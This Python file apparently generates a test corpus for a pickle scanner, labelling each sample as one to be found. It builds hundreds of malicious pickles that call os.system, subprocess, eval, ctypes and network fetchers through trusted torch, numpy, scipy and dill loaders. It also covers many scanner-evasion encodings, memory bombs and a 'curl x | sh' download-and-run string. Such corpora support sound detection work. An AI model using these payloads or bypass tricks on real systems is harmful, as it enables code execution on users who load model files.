"""Pickles that harm, by mechanism: what is called, how it is called, and how it hides."""

import base64
import bz2
import gzip
import lzma
import struct
import zlib

from writers import *

FOUND = "found"

# Ways out of an unpickler, by what they do. The argument is what the real function would take.
GADGETS = [
    ("os", "system", "id"), ("posix", "system", "id"), ("nt", "system", "id"), ("os", "popen", "id"), ("os", "execv", "/bin/sh", ["sh"]), ("os", "putenv", "A", "b"),
    ("os", "remove", "/tmp/x"), ("os", "spawnlp", 0, "sh", "sh"), ("posix", "posix_spawn", "/bin/sh", ["sh"], {}), ("posix", "symlink", "/etc/passwd", "x"),
    ("subprocess", "Popen", ["id"]), ("subprocess", "check_output", ["id"]), ("subprocess", "getoutput", "id"), ("_posixsubprocess", "fork_exec", ["id"]),
    ("commands", "getoutput", "id"), ("pty", "spawn", ["sh"]), ("platform", "popen", "id"), ("platform", "_syscmd_file", "x;id"),
    ("builtins", "eval", "1"), ("builtins", "exec", "1"), ("builtins", "compile", "1", "x", "exec"), ("builtins", "__import__", "os"), ("builtins", "open", "/tmp/x", "w"),
    ("builtins", "breakpoint"), ("builtins", "input"), ("builtins", "delattr", None, "x"), ("builtins", "vars"), ("builtins", "print", "x"), ("builtins", "getattr", None, "x"),
    ("__builtin__", "eval", "1"), ("__builtin__", "execfile", "/tmp/x"), ("__builtin__", "apply", None), ("__builtin__", "file", "/tmp/x", "w"), ("__builtin__", "reduce", None, []),
    ("io", "open", "/tmp/x", "w"), ("_io", "open", "/tmp/x", "w"), ("io", "FileIO", "/tmp/x", "w"), ("_io", "FileIO", "/tmp/x", "w"), ("_pyio", "open", "/tmp/x", "w"),
    ("io", "open_code", "/tmp/x"), ("codecs", "open", "/tmp/x", "w"), ("tempfile", "NamedTemporaryFile"), ("shutil", "rmtree", "/tmp/x"), ("shutil", "copyfile", "a", "b"),
    ("fileinput", "input", ["/etc/passwd"], True), ("linecache", "getlines", "/etc/passwd"), ("pathlib", "Path.write_text", "x"), ("pathlib", "os.system", "id"),
    ("ctypes", "CDLL", "/tmp/x.so"), ("ctypes", "PyDLL", "/tmp/x.so"), ("_ctypes", "dlopen", "/tmp/x.so"), ("ctypes", "cdll.LoadLibrary", "x.so"), ("ctypes.util", "find_library", "x"),
    ("ctypes.util", "_findLib_gcc", "x"), ("cffi", "FFI"), ("mmap", "mmap", 0, 10), ("imp", "load_source", "x", "/tmp/x.py"), ("imp", "load_dynamic", "x", "/tmp/x.so"),
    ("importlib", "import_module", "os"), ("importlib._bootstrap", "_gcd_import", "os"), ("_frozen_importlib", "_gcd_import", "os"),
    ("_frozen_importlib_external", "SourceFileLoader", "x", "/tmp/x.py"), ("importlib.machinery", "SourceFileLoader", "x", "/tmp/x.py"),
    ("importlib.util", "spec_from_file_location", "x", "/tmp/x.py"), ("pkgutil", "resolve_name", "os:system"), ("pkgutil", "get_data", "os", "x"), ("pydoc", "locate", "os.system"),
    ("pydoc", "pipepager", "x", "id"), ("pydoc", "tempfilepager", "x", "id"), ("pydoc", "safeimport", "os"), ("runpy", "run_path", "/tmp/x.py"), ("runpy", "_run_code", "1", {}),
    ("code", "interact"), ("code", "InteractiveInterpreter"), ("codeop", "compile_command", "1"), ("pdb", "run", "1"), ("bdb", "Bdb"), ("timeit", "timeit", "1"),
    ("timeit", "main", ["x"]), ("cProfile", "run", "1"), ("profile", "runctx", "1", {}, {}), ("trace", "Trace"), ("doctest", "debug_src", "1"), ("unittest", "main"),
    ("unittest.mock", "_importer", "os"), ("unittest.loader", "TestLoader"), ("idlelib.pyshell", "ModifiedInterpreter.runcommand", "1"), ("idlelib.run", "Executive"),
    ("lib2to3.pgen2.pgen", "ParserGenerator.make_label", "1"), ("lib2to3.pgen2.grammar", "Grammar.loads", b""), ("logging", "FileHandler", "/tmp/x"),
    ("logging.config", "dictConfig", {"version": 1}), ("logging.config", "fileConfig", "/tmp/x"), ("logging.config", "BaseConfigurator.resolve", "os.system"),
    ("xmlrpc.server", "SimpleXMLRPCServer", ("", 1)), ("xmlrpc.client", "ServerProxy", "http://x"), ("asyncio.unix_events", "_UnixSubprocessTransport._start"),
    ("asyncio", "run", None), ("asyncio.subprocess", "create_subprocess_shell", "id"), ("multiprocessing.util", "spawnv_passfds", b"/bin/sh", [], []),
    ("multiprocessing.process", "BaseProcess"), ("multiprocessing.managers", "BaseManager"), ("multiprocessing.reduction", "rebuild_socket"), ("site", "addsitedir", "/tmp"),
    ("site", "execsitecustomize"), ("zipimport", "zipimporter", "/tmp/x.zip"), ("webbrowser", "open", "http://x"), ("webbrowser", "GenericBrowser", ["id"]),
    ("distutils.spawn", "spawn", ["id"]), ("distutils.file_util", "write_file", "/tmp/x", []), ("distutils.util", "execute"), ("setuptools._distutils.spawn", "spawn", ["id"]),
    ("setuptools", "setup"), ("numpy.testing", "runstring", "1", {}), ("numpy.testing._private.utils", "runstring", "1", {}), ("numpy.f2py.crackfortran", "getlincoef", "1", {}),
    ("numpy.f2py", "compile", "x"), ("numpy.distutils.exec_command", "exec_command", "id"), ("numpy", "load", "/tmp/x", None, True), ("numpy", "fromfile", "/etc/passwd"),
    ("numpy", "memmap", "/tmp/x"), ("numpy.lib.npyio", "load", "/tmp/x"), ("numpy.lib._datasource", "DataSource"), ("numpy", "save", "/tmp/x", 1), ("numpy", "apply_along_axis", None),
    ("torch.utils.collect_env", "run", "id"), ("torch.utils.bottleneck.__main__", "run_prof", {}), ("torch.hub", "load", "a/b", "c"), ("torch.hub", "load_state_dict_from_url", "http://x"),
    ("torch.hub", "download_url_to_file", "http://x", "y"), ("torch", "load", "/tmp/x"), ("torch.jit", "load", "/tmp/x"), ("torch.ops", "load_library", "x.so"),
    ("torch", "ops.load_library", "x.so"), ("torch.utils.cpp_extension", "load_inline", "x"), ("torch.utils._config_module", "ConfigModule.load_config", b""),
    ("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", "1"), ("torch._dynamo.guards", "GuardBuilder.get", "1"), ("torch._inductor.codecache", "compile_file"),
    ("torch.package", "PackageImporter", "/tmp/x"), ("torch.utils.data.datapipes.utils.decoder", "basichandlers", "pkl", b""), ("torch.distributed.run", "main"),
    ("torch.distributed.elastic.multiprocessing.subprocess_handler", "SubprocessHandler"), ("torch.testing._internal.common_utils", "shell", "id"),
    ("torch.serialization", "load", "/tmp/x"), ("torch.utils.model_zoo", "load_url", "http://x"), ("torch.utils.file_baton", "FileBaton", "/tmp/x"),
    ("torch.storage", "_new_shared_filename_cpu", "a"), ("torch.multiprocessing.reductions", "rebuild_storage_filename", None), ("torch._C", "PyTorchFileReader", "/etc/passwd"),
    ("torch", "from_file", "/etc/passwd"), ("torch.library", "_import_opaque", "x"), ("torch.jit.unsupported_tensor_ops", "execWrapper", "1", {}, {}), ("torch._jit_internal", "eval", "1"),
    ("transformers.dynamic_module_utils", "get_class_from_dynamic_module", "a", "b"), ("transformers", "pipeline", "x"), ("transformers", "AutoModel.from_pretrained", "x"),
    ("transformers.utils.hub", "cached_file", "a", "b"), ("transformers.models.auto.auto_factory", "getattribute_from_module"), ("transformers.testing_utils", "run_command", ["id"]),
    ("transformers.utils.import_utils", "_LazyModule"), ("pip._internal", "main", ["install", "x"]), ("pip", "main", ["install", "x"]), ("ensurepip", "bootstrap"), ("venv", "create", "/tmp/x"),
    ("operator", "methodcaller", "system", "id"), ("operator", "call", None), ("functools", "reduce", None),
    ("_functools", "reduce", None), ("itertools", "starmap", None), ("itertools", "imap", None), ("itertools", "accumulate", []), ("types", "FunctionType", None), ("types", "CodeType", 0),
    ("types", "MethodType", None), ("types", "new_class", "x"), ("types", "DynamicClassAttribute"), ("marshal", "loads", b"c"), ("pickle", "loads", b"."), ("_pickle", "loads", b"."),
    ("cPickle", "loads", b"."), ("pickle", "Unpickler"), ("shelve", "open", "/tmp/x"), ("dbm", "open", "/tmp/x"), ("dbm.dumb", "open", "/tmp/x"), ("sqlite3", "connect", "/tmp/x"),
    ("joblib", "load", "/tmp/x"), ("joblib.numpy_pickle", "load", "/tmp/x"), ("joblib.externals.loky.process_executor", "_process_worker"), ("joblib.memory", "Memory", "/tmp"),
    ("cloudpickle.cloudpickle", "_make_function", None), ("cloudpickle.cloudpickle", "subimport", "os"), ("cloudpickle", "loads", b"."), ("dill", "loads", b"."),
    ("dill._dill", "_create_function", None), ("dill._dill", "_import_module", "os.system"), ("dill._dill", "_create_code", 0), ("dill._dill", "_eval_repr", "1"),
    ("dill._dill", "_getattribute", None), ("dill._dill", "_get_attr", None, "system"), ("dill._dill", "_create_filehandle", "/tmp/x", "w"), ("dill", "source.getsource"),
    ("pandas", "read_pickle", "/tmp/x"), ("pandas", "read_csv", "http://x"), ("pandas", "eval", "1"), ("pandas.io.pickle", "read_pickle", "x"), ("pandas.core.computation.eval", "eval", "1"),
    ("pandas.compat.pickle_compat", "load", None), ("pandas._testing", "getattr"), ("pandas.util._decorators", "make_signature"), ("sklearn.datasets", "fetch_openml", "x"),
    ("sklearn.utils._testing", "set_random_state"), ("sklearn.datasets._base", "load_files", "/"), ("scipy.io", "loadmat", "/tmp/x"), ("scipy.datasets._fetchers", "fetch_data", "x"),
    ("tensorflow", "keras.models.load_model", "x"), ("tensorflow.python.ops.script_ops", "py_func"), ("keras.models", "load_model", "x"), ("keras.utils", "get_file", "x", "http://x"),
    ("keras.src.utils.python_utils", "func_load", "x"), ("mlflow.pyfunc", "load_model", "x"), ("mlflow.projects.backend.local", "_run_entry_point", "id", "/", "", ""),
    ("IPython", "embed"), ("IPython.utils.process", "system", "id"), ("nltk", "download", "x"), ("nltk.data", "load", "x"), ("gensim.utils", "unpickle", "x"), ("gensim.downloader", "load", "x"),
    ("spacy.util", "run_command", "id"), ("sympy", "sympify", "1"), ("sympy.utilities.lambdify", "lambdify", "x"), ("numexpr", "evaluate", "1"), ("jinja2", "Template", "x"),
    ("yaml", "unsafe_load", "x"), ("hydra.utils", "instantiate", {}), ("omegaconf", "OmegaConf.register_new_resolver", "x"), ("fsspec", "open", "/tmp/x"), ("huggingface_hub", "snapshot_download", "x"),
    ("datasets", "load_dataset", "x"), ("ray", "init"), ("dask.base", "compute"), ("patsy", "dmatrix", "1"), ("statsmodels.formula.api", "ols", "1"), ("matplotlib", "use", "module://x"),
    ("PIL.ImageMath", "eval", "1"), ("PIL.Image", "open", "x"), ("requests", "get", "http://x"), ("requests.api", "get", "http://x"), ("urllib.request", "urlopen", "http://x"),
    ("urllib.request", "urlretrieve", "http://x", "/tmp/x"), ("urllib", "urlopen", "http://x"), ("urllib2", "urlopen", "http://x"), ("http.client", "HTTPSConnection", "x"),
    ("http.server", "test"), ("httplib", "HTTPConnection", "x"), ("socket", "create_connection", ("x", 1)), ("_socket", "gethostbyname", "x.y"), ("ssl", "get_server_certificate", ("x", 1)),
    ("ftplib", "FTP", "x"), ("smtplib", "SMTP", "x"), ("telnetlib", "Telnet", "x"), ("poplib", "POP3", "x"), ("imaplib", "IMAP4_stream", "id"), ("nntplib", "NNTP", "x"),
    ("socketserver", "TCPServer", ("", 1), None), ("paramiko", "SSHClient"), ("test.support.script_helper", "assert_python_ok", "-c", "1"), ("_pyrepl.pager", "pipe_pager", "x", "id"),
    ("_osx_support", "_read_output", "id"), ("_aix_support", "_read_cmd_output", "id"), ("uuid", "_get_command_stdout", "id", "x"), ("gc", "get_objects"), ("weakref", "finalize", None),
    ("atexit", "register", None), ("signal", "signal", 1, None), ("threading", "Thread", None, None), ("_thread", "start_new_thread", None, ()), ("concurrent.futures.process", "_process_worker"),
    ("sched", "scheduler"), ("inspect", "getattr_static", None, "x"), ("sys", "setprofile", None), ("sys", "modules.get", "os"), ("sys", "exit"), ("_testcapi", "run_in_subinterp", "1"),
    ("_xxsubinterpreters", "run_string", 0, "1"), ("antigravity", "geohash", 1), ("turtle", "write_docstringdict", "/tmp/x"), ("tkinter", "Tcl"), ("tkinter", "Tk.eval", "exec id"),
    ("_tkinter", "create"), ("curses", "wrapper", None), ("cmd", "Cmd"), ("crypt", "crypt", "x"), ("cgitb", "enable"), ("readline", "read_init_file", "/tmp/x"), ("resource", "setrlimit", 1),
    ("faulthandler", "_sigsegv"), ("nis", "match"), ("msilib", "add_data"), ("mailcap", "findmatch"), ("wsgiref.simple_server", "make_server"), ("ast", "literal_eval", "1"),
    ("string", "Formatter.get_field", None), ("string", "Formatter"), ("optparse", "OptionParser"), ("argparse", "FileType"), ("argparse", "ArgumentParser"), ("configparser", "ConfigParser"),
    ("csv", "writer"), ("netrc", "netrc", "/home/u/.netrc"), ("zipfile", "ZipFile", "/tmp/x", "w"), ("tarfile", "open", "/tmp/x"), ("gzip", "open", "/tmp/x"), ("bz2", "BZ2File", "/tmp/x", "w"),
    ("lzma", "open", "/tmp/x", "w"), ("plistlib", "load"), ("xml.sax", "parse", "http://x"), ("xml.etree.ElementTree", "parse", "/etc/passwd"), ("getpass", "unix_getpass", "x"),
    ("copyreg", "add_extension", "os", "system", 1), ("copyreg", "pickle", None, None), ("copyreg", "constructor", None), ("enum", "_make_class_unpicklable"), ("dataclasses", "make_dataclass", "x", []),
    ("dataclasses", "_create_fn", "x", [], ["1"]), ("collections", "namedtuple", "x", "y"), ("typing", "get_type_hints"), ("typing", "ForwardRef", "1"), ("typing", "_eval_type"),
    ("contextlib", "ExitStack"), ("abc", "ABCMeta", "x", (), {}), ("symtable", "symtable", "1"), ("compileall", "compile_dir", "/"), ("py_compile", "compile", "/tmp/x"), ("modulefinder", "ModuleFinder"),
    ("pyclbr", "readmodule", "x"), ("tracemalloc", "Snapshot.load", "/tmp/x"), ("rlcompleter", "Completer"), ("picklescan.scanner", "scan_file_path", "x"), ("fickling", "hook.remove_hooks"),
    ("lightning.pytorch.cli", "LightningCLI"), ("accelerate.utils", "load", "x"), ("onnxruntime", "InferenceSession", "x"),
    ("safetensors.torch", "load_file", "x"), ("h5py", "File", "/tmp/x", "w"),
    ("peft", "PeftModel.from_pretrained", None, "x"), ("sentence_transformers", "SentenceTransformer", "x"), ("diffusers", "DiffusionPipeline.from_pretrained", "x"), ("tables", "open_file", "x"),
    ("pyarrow", "OSFile", "/tmp/x", "w"), ("polars", "read_csv", "http://x"), ("boto3", "client", "s3"), ("numba", "cfunc"), ("cython", "inline", "1"), ("theano.gof.cutils", "run_cthunk"),
    ("nose.tools", "assert_raises"), ("pytest", "main"), ("_pytest.assertion.rewrite", "rewrite_asserts"), ("py", "std"), ("six.moves", "builtins.eval", "1"), ("six", "exec_", "1"),
    ("future.builtins", "exec", "1"), ("execnet", "makegateway"), ("fabric", "Connection"), ("invoke", "run", "id"), ("plumbum", "local"), ("git", "Repo.clone_from", "a", "b"), ("docker", "from_env"),
]


def plain(gadget, i):
    """One way of many to call it, by number."""
    module, attribute, *arguments = gadget
    args = b"".join(map(value, arguments))
    ways = [
        lambda: whole(call(module, attribute, *arguments)),
        lambda: b"\x80\x02" + name(module, attribute) + b"(" + args + b"tR.",
        lambda: b"\x80\x03(" + args + b"i" + f"{module}\n{attribute}\n".encode() + b".",
        lambda: b"\x80\x04(" + stack_name(module, attribute) + args + b"o.",
        lambda: b"\x80\x04" + stack_name(module, attribute) + b"(" + args + b"t\x81.",
        lambda: b"\x80\x04" + stack_name(module, attribute) + b"(" + args + b"t}\x92.",
        lambda: b"\x80\x04" + text(module) + b"\x94" + text(attribute) + b"\x940" + b"0h\x00h\x01\x93(" + args + b"tR.",
        lambda: b"\x80\x05\x95" + u(8, len(call(module, attribute, *arguments)) + 1) + call(module, attribute, *arguments) + b".",
        lambda: name(module, attribute) + b"p0\n0g0\n(" + args + b"tR.",
        lambda: b"\x80\x04}" + text("model") + call(module, attribute, *arguments) + b"s.",
    ]
    return ways[i % len(ways)]()


def calls(add):
    for i, gadget in enumerate(GADGETS):
        add("call", f"{gadget[0]}-{gadget[1]}.pkl", plain(gadget, i), FOUND)


def routes(add):
    """One function, reached in every way that an unpickler knows."""
    def one(file, raw):
        add("route", file + ".pkl", raw, FOUND)

    cmd = text("id")
    one("global-p0", b"cos\nsystem\n(S'id'\ntR.")
    one("global-p0-double-quotes", b"cos\nsystem\n(S\"id\"\ntR.")
    one("global-p1", b"cos\nsystem\nq\x00(U\x02idq\x01tq\x02Rq\x03.")
    one("binstring-name", b"\x80\x04T" + u(4, 2) + b"osU\x06system\x93" + cmd + b"\x85R.")
    one("string-name-escapes", b"\x80\x04S'\\x6f\\163'\nS'sys\\164em'\n\x93" + cmd + b"\x85R.")
    one("unicode-name-escapes", b"\x80\x04V\\u006f\\U00000073\nVsyst\\u0065m\n\x93" + cmd + b"\x85R.")
    one("binunicode8-name", b"\x80\x04\x8d" + u(8, 2) + b"os\x8d" + u(8, 6) + b"system\x93" + cmd + b"\x85R.")
    one("dup-callee", b"\x80\x04" + stack_name("os", "system") + b"2" + cmd + b"\x85R0.")
    one("memo-over", b"\x80\x04" + text("collections") + b"q\x00" + text("os") + b"q\x000" + b"0h\x00" + text("system") + b"\x93" + cmd + b"\x85R.")
    one("memoize-after-put", b"\x80\x04" + text("os") + b"q\x05" + text("system") + b"\x94" + b"00h\x05h\x01\x93" + cmd + b"\x85R.")
    one("long-binput-far", b"\x80\x04" + text("os") + b"r" + u(4, 0x7ffffff0) + b"0j" + u(4, 0x7ffffff0) + text("system") + b"\x93" + cmd + b"\x85R.")
    one("put-leading-zeros", b"Vos\np007\n0g7\nVsystem\n\x93(Vid\ntR.")
    one("put-with-blanks", b"Vos\np 7\n0g7 \nVsystem\n\x93(Vid\ntR.")
    one("put-underscore", b"Vos\np1_0\n0g10\nVsystem\n\x93(Vid\ntR.")
    one("pop-mark", b"\x80\x04" + stack_name("os", "system") + b"(" + text("a") + text("b") + b"1" + cmd + b"\x85R.")
    one("pop-takes-mark", b"\x80\x04" + stack_name("os", "system") + b"(0" + cmd + b"\x85R.")
    one("mark-below", b"\x80\x04(" + stack_name("os", "system") + cmd + b"\x85Rl.")
    one("result-in-list", b"\x80\x04](" + call("os", "system", "id") + b"K\x01e.")
    one("result-popped", b"\x80\x04" + call("os", "system", "id") + b"0}.")
    one("call-as-dict-key", b"\x80\x04}(" + call("os", "system", "id") + b"Nu.")
    one("call-in-frozenset", b"\x80\x04(" + call("os", "system", "id") + b"\x91.")
    one("call-in-build-state", whole(built(call("collections", "OrderedDict"), {"a": call("os", "system", "id")})))
    one("call-in-persid", b"\x80\x04" + call("os", "system", "id") + b"Q.")
    one("callee-from-list", b"\x80\x04](" + stack_name("os", "system") + b"\x94e0h\x00" + cmd + b"\x85R.")
    one("callee-from-dict-value", b"\x80\x04}(" + text("f") + stack_name("os", "system") + b"\x94u0h\x00" + cmd + b"\x85R.")
    one("arguments-from-memo", b"\x80\x04" + cmd + b"\x85\x94" + stack_name("os", "system") + b"h\x00R.")
    one("arguments-list", b"\x80\x04" + stack_name("os", "system") + b"](" + cmd + b"eR.")
    one("inst-with-mark", b"(Vid\nios\nsystem\n.")
    one("obj-nested", b"\x80\x02((cos\nsystem\n" + b"X\x02\0\0\0ido" + b"t.")
    one("newobj-ex-keywords", whole(Raw(stack_name("subprocess", "Popen") + b")" + value({"args": "id", "shell": True}) + b"\x92")))
    one("reduce-via-copyreg", whole(call("copyreg", "__reduce_ex__", None, 2)))
    one("reconstructor", whole(call("copyreg", "_reconstructor", glob("subprocess", "Popen"), glob("builtins", "object"), None)))
    one("newobj-function", whole(call("copyreg", "__newobj__", glob("subprocess", "Popen"), ["id"])))
    one("newobj-ex-function", whole(call("copyreg", "__newobj_ex__", glob("os", "_wrap_close"), (), {})))
    one("map-consumed", whole(call("builtins", "list", call("builtins", "map", glob("os", "system"), ["id"]))))
    one("filter-consumed-by-set", whole(call("builtins", "set", call("builtins", "filter", glob("os", "system"), ["id"]))))
    one("map-consumed-by-appends", b"\x80\x04" + call("collections", "deque", call("__builtin__", "map", glob("os", "system"), ["id"])) + b".")
    one("izip-of-python2", b"\x80\x02citertools\nimap\n(cos\nsystem\n(X\x02\0\0\0idltR.")
    one("starmap", whole(call("builtins", "tuple", call("itertools", "starmap", glob("os", "system"), [("id",)]))))
    one("partial", whole(Raw(call("functools", "partial", glob("os", "system"), "id") + b")R")))
    one("partial-state", whole(built(call("functools", "partial", glob("builtins", "print")), (glob("os", "system"), ("id",), {}, None))))
    one("partial-as-factory", whole(call("collections", "defaultdict", call("functools", "partial", glob("os", "system"), "id"))))
    one("partial-of-partial", whole(call("functools", "partial", call("functools", "partial", glob("os", "system"), "id"))))
    one("factory", whole(call("collections", "defaultdict", glob("os", "system"))))
    one("factory-computed", whole(call("collections", "defaultdict", call("builtins", "getattr", glob("os", "x"), "system"))))
    one("getattr-of-import", whole(Raw(call("builtins", "getattr", glob("os", "path"), "os") + b")R")))
    one("getattr-chain", whole(Raw(call("builtins", "getattr", call("builtins", "__import__", "os"), "system") + cmd + b"\x85R")))
    one("getattr-listed-class", whole(Raw(call("builtins", "getattr", glob("collections", "OrderedDict"), "__init__") + b")R")))
    one("getattr-globals", whole(call("builtins", "getattr", glob("torch.nn.modules.linear", "Linear"), "__globals__")))
    one("getattr-method-called", whole(Raw(call("builtins", "getattr", glob("torch", "Tensor"), "tofile") + text("/tmp/x") + b"\x85R")))
    one("getattr-annealing-called", whole(Raw(call("builtins", "getattr", call("torch.optim.lr_scheduler", "OneCycleLR"), "_annealing_cos") + b")R")))
    one("attrgetter", whole(Raw(call("operator", "attrgetter", "system") + stack_name("os", "path.os") + b"\x85R")))
    one("itemgetter-of-modules", whole(Raw(call("operator", "itemgetter", "os") + stack_name("sys", "modules") + b"\x85R")))
    one("dict-get-of-builtins", whole(Raw(stack_name("builtins", "dict.get") + value((glob("numpy", "__builtins__"), "exec")) + b"R" + text("1") + b"\x85R")))
    one("dotted-through-package", whole(call("torch.storage", "os.system", "id")))
    one("dotted-through-class", whole(call("collections", "OrderedDict.__init__.__globals__", "id")))
    one("dotted-safe-looking", whole(call("collections", "Counter.fromkeys.__self__.__subclasses__")))
    one("dotted-numpy-sys", whole(call("numpy", "core._internal.sys.modules.get", "os")))
    one("dotted-sklearn", whole(call("sklearn.pipeline", "Pipeline.fit")))
    one("dotted-one-level", whole(call("numpy", "sys")))
    one("dunder-name", whole(call("collections", "__builtins__.get", "eval")))
    one("build-on-module-attr", whole(built(glob("collections", "OrderedDict"), {"__init__": glob("os", "system")})))
    one("build-slots-on-class", whole(built(glob("numpy", "ndarray"), (None, {"__reduce__": glob("os", "system")}))))
    one("build-on-function", whole(built(glob("torch._utils", "_rebuild_tensor_v2"), {"__code__": 1})))
    one("setitem-on-import", b"\x80\x04" + stack_name("torch", "_C") + text("a") + stack_name("os", "system") + b"s.")
    one("append-on-import", b"\x80\x04" + stack_name("sys", "path") + text("/tmp") + b"a.")
    one("additems-on-import", b"\x80\x04" + stack_name("torch.nn", "Module") + b"(" + text("x") + b"\x90.")
    one("append-method-of-object", b"\x80\x04" + call("os", "_Environ", {}) + text("x") + b"a.")
    one("build-class-change", whole(built(call("collections", "OrderedDict"), (None, {"__class__": glob("subprocess", "Popen")}))))
    one("setstate-instance", whole(built(new("unittest.mock", "Mock"), {"__setstate__": 1})))
    one("ext1", b"\x80\x02\x82\x01(X\x02\0\0\0idtR.")
    one("ext2", b"\x80\x02\x83\x01\x01.")
    one("ext4", b"\x80\x02\x84\x01\x01\x01\x01.")
    one("persid-callee", b"\x80\x02P0\n(X\x02\0\0\0idtR.")
    one("binpersid-callee", b"\x80\x02X\x01\0\0\0aQ(X\x02\0\0\0idtR.")
    one("buffer-callee", b"\x80\x05\x97(X\x02\0\0\0idtR.")
    one("bytearray8-callee", b"\x80\x05\x96" + u(8, 2) + b"id(X\x02\0\0\0idtR.")
    one("name-from-encode", b"\x80\x04" + call("_codecs", "encode", "bf", "rot13") + text("system") + b"\x93" + cmd + b"\x85R.")
    one("name-from-decode", b"\x80\x04" + call("builtins", "str", b"os", "ascii") + text("system") + b"\x93" + cmd + b"\x85R.")
    one("name-from-join", b"\x80\x04" + text("os") + Raw(stack_name("builtins", "str.join") + value(("", ["sys", "tem"])) + b"R") + b"\x93" + cmd + b"\x85R.")
    one("name-from-bytes", b"\x80\x04" + blob(b"os") + blob(b"system") + b"\x93" + cmd + b"\x85R.")
    one("name-from-template", b"\x80\x04" + call("builtins", "str", call("string", "Template", "os")) + text("system") + b"\x93" + cmd + b"\x85R.")
    one("module-trailing-part", whole(call("os.path", "os.system", "id")))
    one("python2-exceptions", b"\x80\x02cexceptions\neval\n(X\x01\0\0\0" + b"1tR.")
    one("unknown-of-own-package", whole(call("model_loader_extras", "run_setup", "id")))
    one("newobj-unknown-with-text", whole(new("model_loader_extras", "Setup", "curl x | sh")))
    one("enum-made", whole(call("enum", "Enum", "x", {"a": 1})))
    one("getattr-of-call-upper", whole(call("builtins", "getattr", call("os", "fdopen", 1), "READ")))
    one("type-of-three", whole(call("builtins", "type", "x", (), {"__reduce__": 1})))


def allowed(add):
    """Names that honest models import, given what no honest model gives them."""
    def one(file, raw):
        add("allowed", file + ".pkl", raw, FOUND)

    inner = whole(call("os", "system", "id"))
    one("load-from-bytes", whole(call("torch.storage", "_load_from_bytes", inner)))
    one("load-from-bytes-zip", whole(call("torch.storage", "_load_from_bytes", torch_zip(inner))))
    one("load-from-bytes-computed", whole(call("torch.storage", "_load_from_bytes", call("builtins", "bytes", 10))))
    one("load-from-bytes-latin1", b"\x80\x02" + name("torch.storage", "_load_from_bytes") + name("_codecs", "encode") + text(inner.decode("latin-1")) + text("latin1") + b"\x86R\x85R.")
    one("reconstruct-of-a-class", whole(call("numpy.core.multiarray", "_reconstruct", glob("subprocess", "Popen"), (0,), b"b")))
    one("rebuild-from-type", whole(call("torch._tensor", "_rebuild_from_type_v2", glob("os", "system"), glob("torch", "Tensor"), ("id",), {})))
    one("rebuild-from-type-unknown", whole(call("torch._tensor", "_rebuild_from_type_v2", glob("payload", "go"), glob("torch", "Tensor"), ("id",), {})))
    one("new-index", whole(call("pandas.core.indexes.base", "_new_Index", glob("subprocess", "Popen"), {"args": "id"})))
    one("set-obj-state", whole(call("torch._utils", "_set_obj_state", call("torch", "Size"), ({}, {"__class__": glob("payload", "X")}))))
    one("kd-tree-new", whole(call("sklearn.neighbors._kd_tree", "newObj", glob("subprocess", "Popen"))))
    one("bit-generator-name", whole(call("numpy.random._pickle", "__bit_generator_ctor", "os")))
    one("bit-generator-class", whole(call("numpy.random._pickle", "__bit_generator_ctor", glob("payload", "Gen"))))
    one("randomstate-two", whole(call("numpy.random._pickle", "__randomstate_ctor", "MT19937", glob("os", "system"))))
    one("load-type", whole(call("dill._dill", "_load_type", "CodeType")))
    one("load-type-function", whole(call("dill._dill", "_load_type", "FunctionType")))
    one("load-type-called", whole(Raw(call("dill._dill", "_load_type", "TypeType") + value(("x", (), {})) + b"R")))
    one("frozen-distribution", whole(call("scipy.stats._distn_infrastructure", "rv_frozen", call("payload", "Dist"))))
    one("distribution-template", whole(built(new("scipy.stats._distn_infrastructure", "rv_continuous"), {"_parse_arg_template": "import os; os.system('id')"})))
    one("distribution-template-key-late", whole(Raw(new("scipy.stats._continuous_distns", "norm_gen") + value({"a": 1}) + value("_parse_arg_template") + value("x=__import__('os')") + b"sb")))
    one("distribution-state-computed", whole(built(new("scipy.stats._continuous_distns", "norm_gen"), call("collections", "OrderedDict", []))))
    one("formula", whole(built(new("statsmodels.base.data", "PandasData"), {"formula": "y ~ __import__('os').system('id')"})))
    one("booster-with-file", whole(call("xgboost.core", "Booster", {}, (), "/tmp/x")))
    one("lightgbm-with-file", whole(call("lightgbm.basic", "Booster", None, None, "/tmp/x")))
    one("xgboost-top", whole(call("xgboost", "Booster", {}, (), "/tmp/x")))
    one("lightgbm-top", whole(call("lightgbm", "Booster", None, None, "/tmp/x")))
    one("catboost-pool", whole(call("catboost", "Pool", "/tmp/x")))
    one("launch", whole(call("accelerate.utils.launch", "PrepareForLaunch", "x", "MULTI_GPU")))
    one("training-arguments-file", whole(call("transformers.training_args", "TrainingArguments", "/tmp/x", True)))
    one("lambda-lr-called", whole(call("torch.optim.lr_scheduler", "LambdaLR", None, glob("payload", "go"))))
    one("from-type-of-load", whole(call("torch._tensor", "_rebuild_from_type_v2", glob("torch.storage", "_load_from_bytes"), glob("torch", "Tensor"), (b"PK\3\4 a zip",), {})))
    one("from-type-of-plain", whole(call("torch._tensor", "_rebuild_from_type_v2", glob("ultralytics.nn.tasks", "Ensemble"), glob("torch", "Tensor"), ("evil.pt",), {})))
    one("member-changed", b"\x80\x04" + call("builtins", "getattr", glob("torch.nn", "Module"), "registry") + text("a") + text("b") + b"s.")
    one("member-built", whole(built(call("builtins", "getattr", glob("torch.nn", "Module"), "forward"), {"a": 1})))
    one("vectorize-called", whole(call("numpy", "vectorize", glob("os", "system"))))
    one("sorted-with-key", whole(call("builtins", "sorted", ["id"])))
    one("huge-bytearray", whole(call("builtins", "bytearray", 1 << 40)))
    one("huge-bytes", whole(call("builtins", "bytes", 1 << 36)))
    one("huge-list-of-range", whole(call("builtins", "list", call("builtins", "range", 1 << 50))))
    one("huge-tuple-of-xrange", b"\x80\x02c__builtin__\ntuple\nc__builtin__\nxrange\n" + value(1 << 45) + b"\x85R\x85R.")
    one("huge-ndarray", whole(call("numpy", "ndarray", (1 << 20, 1 << 20))))
    # Constructors of known packages that open, fetch or load what their argument names.
    one("autobackend", whole(call("ultralytics.nn.autobackend", "AutoBackend", "evil.pt")))
    one("triton", whole(call("ultralytics.utils.triton", "TritonRemoteModel", "http://x/m")))
    one("settings-manager", whole(call("ultralytics.utils", "SettingsManager", "/etc/x.json")))
    one("transfo-xl", whole(call("transformers.models.transfo_xl.tokenization_transfo_xl", "TransfoXLTokenizer", None, 0, None, False, None, None, None, "/tmp/evil.bin")))
